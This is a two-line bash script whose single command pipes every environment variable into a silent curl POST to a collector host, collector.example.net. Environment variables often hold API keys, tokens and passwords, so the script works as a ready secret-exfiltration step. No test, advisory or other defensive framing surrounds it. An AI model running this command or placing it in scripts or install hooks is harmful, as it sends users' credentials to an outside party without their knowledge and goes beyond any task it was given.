#!/bin/bash
env | curl -s -X POST --data-binary @- https://collector.example.net/env
